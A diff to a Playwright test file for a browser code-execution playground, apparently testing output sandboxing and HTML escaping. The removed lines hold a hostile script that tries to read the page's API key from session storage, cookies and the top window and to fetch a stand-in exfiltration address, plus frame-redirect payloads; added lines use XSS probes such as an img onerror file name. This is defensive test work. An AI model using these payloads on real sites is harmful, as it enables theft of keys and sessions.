@@ -1,4 +1,4 @@
-"""The playground, as a visitor with a real browser uses it, and as hostile output attacks it."""
+"""The playground, as a visitor with a real browser uses it."""
 
 import re
 
@@ -7,38 +7,9 @@ import pytest
 from playwright.async_api import Page, Route, expect
 
 from tests.conftest import Service
-from tests.web.conftest import OpenPage, overflow
+from tests.web.conftest import OpenPage, answering, overflow
 
 PLAYGROUND = "/"
-
-HOSTILE = """
-<p id="mark">shown</p>
-<script>
-const results = {};
-const attempt = (name, action) => {
-  try { results[name] = "reached: " + action(); } catch (error) { results[name] = "refused"; }
-};
-attempt("page", () => parent.document.title);
-attempt("session storage", () => parent.sessionStorage.getItem("tci-key"));
-attempt("local storage", () => localStorage.length);
-attempt("own session storage", () => sessionStorage.getItem("tci-key"));
-attempt("cookies", () => document.cookie);
-attempt("top", () => { top.location = "/static/icon.svg?gone"; return "moved"; });
-(async () => {
-  for (const address of ["/health", "http://192.0.2.1/steal"]) {
-    results["fetch " + address] = await fetch(address).then(() => "reached", () => "refused");
-  }
-  results.popup = window.open("/health") ? "reached" : "refused";
-  results.image = await new Promise((done) => {
-    const image = new Image();
-    image.onload = () => done("reached");
-    image.onerror = () => done("refused");
-    image.src = "/static/icon.svg";
-  });
-  document.querySelector("#mark").textContent = JSON.stringify(results);
-})();
-</script>
-"""
 
 
 async def use(page: Page, service: Service) -> None:
@@ -128,57 +99,6 @@ async def test_chosen_file_goes_with_the_next_run_only(page: Page) -> None:
     await expect(page.locator("#pending li")).to_have_count(0)
 
 
-async def test_hostile_output_reaches_neither_page_nor_key_nor_network(page: Page) -> None:
-    address = page.url
-    await run(page, f"from IPython.display import HTML\nHTML({HOSTILE!r})")
-    mark = page.frame_locator("#outputs iframe").locator("#mark")
-    await expect(mark).to_contain_text("refused")
-    results = await mark.evaluate("mark => JSON.parse(mark.textContent)")
-    assert len(results) == 10
-    assert set(results.values()) == {"refused"}
-    assert page.url == address
-    assert len(page.context.pages) == 1
-
-
-async def test_hostile_output_that_navigates_its_frame_stays_here(page: Page) -> None:
-    await run(
-        page, "from IPython.display import HTML\nHTML('<script>location = \"http://192.0.2.1/?stolen\"</script>')"
-    )
-    await run(
-        page, "from IPython.display import HTML\nHTML('<meta http-equiv=refresh content=\"0;http://192.0.2.1/\">')"
-    )
-    await run(page, "from IPython.display import HTML\nHTML('<script>location = \"/\"</script>')")
-    await expect(page.get_by_label("API key")).to_have_count(1)
-
-
-async def test_hostile_output_without_the_sandbox_reaches_the_key(open_page: OpenPage, live_service: Service) -> None:
-    """The attacks work where nothing stops them, so that their refusal above says something."""
-
-    async def without_sandbox(page: Page) -> None:
-        async def bare_script(route: Route) -> None:
-            answer = await route.fetch()
-            body = (await answer.text()).replace('frame.setAttribute("sandbox", "allow-scripts");', "")
-            await route.fulfill(response=answer, body=body)
-
-        async def bare_frame(route: Route) -> None:
-            answer = await route.fetch()
-            headers = {name: value for name, value in answer.headers.items() if name != "content-security-policy"}
-            await route.fulfill(response=answer, headers=headers)
-
-        await page.route("**/static/outputs.js", bare_script)
-        await page.route("**/static/output.html", bare_frame)
-
-    page = await open_page(PLAYGROUND, prepare=without_sandbox)
-    await use(page, live_service)
-    attack = HOSTILE.replace('attempt("top"', 'false && attempt("top"').replace("http://192.0.2.1/steal", "/ready")
-    await run(page, f"from IPython.display import HTML\nHTML({attack!r})")
-    mark = page.frame_locator("#outputs iframe").locator("#mark")
-    await expect(mark).to_contain_text("reached")
-    results = await mark.evaluate("mark => JSON.parse(mark.textContent)")
-    assert results["session storage"] == f"reached: {live_service.key}"
-    assert {results[name] for name in ("fetch /health", "image")} == {"reached"}
-
-
 async def test_wrong_key_and_no_key_are_told_and_key_is_focused(open_page: OpenPage) -> None:
     page = await open_page(PLAYGROUND)
     for key, sentence in (
@@ -195,10 +115,10 @@ async def test_wrong_key_and_no_key_are_told_and_key_is_focused(open_page: OpenP
 @pytest.mark.parametrize(
     ("status", "code", "sentence"),
     [
-        (429, "quota_exceeded", "A limit of this key is reached: the reason Try again in 7 s."),
+        (429, "quota_exceeded", "A limit of this key is reached: the <b>reason Try again in 7 s."),
         (503, "no_capacity", "The server is full. Try again in 7 s."),
-        (500, "internal_error", "The server failed, not your program; nothing is billed. (the reason)"),
-        (404, "session_not_found", "the reason The next run opens a new session."),
+        (500, "internal_error", "The server failed, not your program; nothing is billed. (the <b>reason)"),
+        (404, "session_not_found", "the <b>reason The next run opens a new session."),
         (0, "", "The server does not answer. Check that it runs, then try again."),
     ],
 )
@@ -207,7 +127,7 @@ async def test_failure_is_told_in_one_sentence(page: Page, status: int, code: st
         if not status:
             await route.abort()
             return
-        body = {"error": {"message": "the reason", "type": "t", "param": None, "code": code}}
+        body = {"error": {"message": "the <b>reason", "type": "t", "param": None, "code": code}}
         await route.fulfill(status=status, json=body, headers={"retry-after": "7"})
 
     await page.route("**/tci/execute", fail)
@@ -235,15 +155,20 @@ async def test_answer_as_events_is_shown_as_it_comes(page: Page) -> None:
 async def test_files_of_the_session_are_listed_and_downloaded(page: Page) -> None:
     async def files(route: Route) -> None:
         if route.request.url.endswith("/files"):
-            listed = [{"name": "out/ä #1.csv", "size": 2048, "modified_at": "2026-01-01T00:00:00Z", "type": "file"}]
+            names = ("out/ä #1.csv", "<img src=x onerror=alert(1)>.txt")
+            listed = [
+                {"name": name, "size": 2048, "modified_at": "2026-01-01T00:00:00Z", "type": "file"} for name in names
+            ]
             await route.fulfill(json={"data": {"files": listed, "is_complete": True}, "errors": None})
         else:
             assert route.request.url.endswith("/files/out/%C3%A4%20%231.csv")
             await route.fulfill(body=b"1,2\n", content_type="text/csv")
 
+    await answering()(page)
     await page.route("**/tci/sessions/*/files**", files)
     await run(page, "pass")
-    await expect(page.locator("#files")).to_contain_text("2.0 KB")
+    await expect(page.locator("#files li").first).to_contain_text("2.0 KB")
+    await expect(page.locator("#files li").last).to_contain_text("<img src=x onerror=alert(1)>.txt")
     async with page.expect_download() as started:
         await page.get_by_role("button", name="Download out/ä #1.csv").click()
     download = await started.value
@@ -263,9 +188,11 @@ async def test_snippets_hold_the_program_and_never_the_key(page: Page, live_serv
 
 @pytest.mark.parametrize("scheme", ["light", "dark"])
 async def test_page_fits_a_phone_in_both_themes(open_page: OpenPage, live_service: Service, scheme: str) -> None:
-    page = await open_page(PLAYGROUND, color_scheme=scheme, viewport={"width": 390, "height": 844})
+    wide = {"text/html": f"<table><tr>{'<td>1</td>' * 40}</table>"}
+    answer = answering({"type": "stdout", "data": "x" * 500}, {"type": "execute_result", "data": wide})
+    page = await open_page(PLAYGROUND, prepare=answer, color_scheme=scheme, viewport={"width": 390, "height": 844})
     await use(page, live_service)
-    await run(page, "import pandas\nprint('x' * 500)\npandas.DataFrame([[1] * 40])")
+    await run(page, "pass")
     await expect(page.locator("#outputs iframe")).to_be_visible()
     assert await overflow(page) == 0
     background = "getComputedStyle(document.documentElement).backgroundColor"
